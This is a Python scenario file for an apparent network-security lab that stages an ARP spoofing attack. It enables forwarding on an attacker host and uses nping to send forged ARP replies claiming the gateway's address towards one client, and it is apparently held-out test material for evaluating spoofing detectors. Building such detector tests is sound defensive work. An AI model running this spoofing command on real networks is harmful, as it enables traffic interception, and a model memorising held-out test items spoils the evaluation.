"""nping claims the gateway's address towards one client, once in four seconds."""

from lab.range import Range
from lab.scenario import Scenario


def run(net: Range) -> None:
    attacker, client, gateway = net.inside("attacker"), net.inside("pc4"), net.router()
    www = net.web(net.outside("www"))
    attacker.sysctl(net__ipv4__ip_forward="1", net__ipv4__conf__all__send_redirects="0")
    attacker.sysctl(net__ipv4__conf__eth0__send_redirects="0")
    net.everyday()
    net.loop(client, f"curl -s -m 3 -o /dev/null http://{www.ip}/", 0.9)
    net.quiet(3)
    with net.attack(
        "arp-spoofing",
        by=attacker,
        attackers=[attacker.mac],
        victims=[client, gateway],
        others={"claimed": [gateway]},
        frames="arp[6:2] == 2 and arp src host 10.20.0.1",
    ):
        words = f"nping -q --arp --arp-type ARP-reply --arp-sender-mac {attacker.mac}"
        words += f" --arp-sender-ip {gateway.ip} --arp-target-mac {client.mac} --arp-target-ip {client.ip}"
        words += f" --dest-mac {client.mac} -e eth0 --delay 4s -c 4 {client.ip}"
        net.tool(attacker, *words.split(), seconds=20)
    net.quiet(3)


SCENARIO = Scenario(
    name="arp-spoofing-held-nping",
    about="nping tells one client four times in twelve seconds that the gateway is the attacker.",
    detectors=("arp-spoofing",),
    tools={"nping": "nmap"},
    held_out=True,
    run=run,
)
